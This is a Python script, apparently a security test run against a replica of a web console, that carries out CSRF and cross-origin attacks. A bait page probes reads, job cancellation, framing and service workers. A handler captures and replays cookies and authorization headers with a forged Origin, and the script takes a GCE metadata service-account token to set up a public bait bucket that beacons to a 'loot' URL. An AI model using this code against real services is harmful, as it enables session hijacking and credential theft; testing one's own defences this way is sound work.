"""A hostile program that attacks the browser of a user of the console (CSRF): a page in a bucket, and servers
that try to act as that user. It prints the results.

It uses only the standard library, because it runs in a replica. REST is the service's address, VICTIM the
other project's job.
"""

import http.client
import json
import os
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

REST, VICTIM = os.environ["REST"], os.environ["VICTIM"]
HOST, PORT = REST.split("//")[1].split(":")


def tell(word, value):
    os.write(1, f"{word} {json.dumps(value)}\n".encode())


def ask(place, verb, path, body=b"", **headers):
    connection = http.client.HTTPConnection(place, timeout=30)
    sent = {name.replace("_", "-"): text for name, text in headers.items()}
    connection.request(verb, path, body, sent)
    answer = connection.getresponse()
    return answer.status, answer.read()


PAGE = """<!doctype html><title>bait</title><body><script>
// What a page of any origin can try. It tells what came of it: "" for nothing.
const told = {}, all = { credentials: "include" }, job = "REST/jobs/VICTIM";
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const tried = async (name, does) => {
  try { told[name] = String(await does()).slice(0, 200); } catch { told[name] = ""; }
};
const cancel = async (mode) => {
  const answer = await fetch(`${job}/cancel`, { ...all, method: "POST", mode });
  return answer.type === "opaque" ? "" : "read";
};
(async () => {
  await tried("read", async () => (await fetch("REST/settings", all)).text());
  await tried("cancel", () => cancel("cors"));
  await tried("cancel unread", () => cancel("no-cors"));
  await tried("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = job;
    document.body.append(frame);
    await wait(500);
    return frame.contentDocument?.body?.innerText || "";
  });
  await tried("script", () => new Promise((done, fail) => {
    const script = document.createElement("script");
    script.src = `${job}/lines`;
    script.onload = () => done("run");
    script.onerror = fail;
    document.body.append(script);
  }));
  await tried("window", async () => {
    const other = window.open(job);
    await wait(500);
    return other.document.body.innerText;
  });
  await tried("worker", async () => {
    await navigator.serviceWorker.register("REST/assets/x.js");
    return "registered";
  });
  await tried("session", () => new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open("GET", "REST/signed-in", true, "session", "mine");
    request.withCredentials = true;
    request.setRequestHeader("x-trainshed-sign-in", "1");
    request.onload = () => done(request.status);
    request.onerror = fail;
    request.send();
  }));
  await fetch("/report", { method: "POST", body: JSON.stringify(told) });
  document.title = "done";
})();
</script></body>"""
PAGE = PAGE.replace("REST", REST).replace("VICTIM", VICTIM).encode()


class Bait(BaseHTTPRequestHandler):
    """Forward the headers of a browser's request to the service, as if the request came from the console."""

    def answer(self):
        size = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(size).decode()
        if self.path == "/report":
            tell("REPORT", json.loads(body))
        stolen = {name: self.headers[name] for name in ("Cookie", "Authorization") if name in self.headers}
        known = {"host": self.headers["Host"], "path": self.path, "from": self.headers["Referer"]}
        tell("HEARD", {**known, "stolen": stolen})
        forged = {"Origin": REST, "Sec_Fetch_Site": "same-origin", "Host": f"{HOST}:{PORT}", **stolen}
        place = f"{HOST}:{PORT}"
        got = {
            "settings": ask(place, "GET", "/settings", Accept="text/html", **forged)[0],
            "cancel": ask(place, "POST", f"/jobs/{VICTIM}/cancel", **forged)[0],
            "quota": ask(place, "POST", "/quotas", b"project=x", **forged)[0],
        }
        tell("GOT", got)
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    do_GET = do_POST = answer  # noqa: N815 names of the library

    def log_message(self, *_):
        pass


class Six(ThreadingHTTPServer):
    address_family = socket.AF_INET6


def serve(server):
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


own = serve(ThreadingHTTPServer(("127.0.0.1", 0), Bait))
try:
    at_six = serve(Six(("::1", int(PORT)), Bait))
except OSError:
    at_six = 0
metadata = os.environ["GCE_METADATA_HOST"]
_, answer = ask(
    metadata, "GET", "/computeMetadata/v1/instance/service-accounts/default/token", Metadata_Flavor="Google"
)
known = {"Authorization": "Bearer " + json.loads(answer)["access_token"]}
service = f"{HOST}:{PORT}"
loot = f"http://127.0.0.1:{own}/loot"
script = f'fetch("/settings").then(() => fetch("{loot}")); new Image().src = "{loot}"'
html = f"<!doctype html><title>bait</title><script>{script}</script>"
policy = {"bindings": [{"role": "roles/storage.objectViewer", "members": ["allUsers"]}]}
opened = "/storage/v1/b/bait/iam"
upload = "/upload/storage/v1/b/bait/o?uploadType=media&name=page.html"
laid = [
    ask(service, "POST", "/storage/v1/b?project=attacking-project", b'{"name": "bait"}', **known)[0],
    ask(service, "POST", upload, html.encode(), Content_Type="text/html", **known)[0],
    ask(service, "PUT", opened, json.dumps(policy).encode(), **known)[0],
]
tell("LAID", {"port": own, "six": at_six, "answers": laid})
threading.Event().wait()
